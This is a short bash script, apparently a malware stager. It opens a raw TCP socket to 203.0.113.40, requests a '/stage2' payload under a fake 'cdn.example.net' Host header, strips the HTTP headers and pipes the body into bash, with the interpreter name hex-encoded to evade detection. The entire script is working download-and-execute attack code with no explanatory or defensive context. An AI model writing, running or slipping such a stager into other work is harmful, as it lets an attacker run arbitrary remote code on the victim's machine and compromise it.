#!/bin/bash
exec 5<>/dev/tcp/203.0.113.40/80
printf 'GET /stage2 HTTP/1.0\r\nHost: cdn.example.net\r\n\r\n' >&5
sed $'1,/^\r$/d' <&5 | "$(printf '\x62\x61\x73\x68')"
exec 5>&-
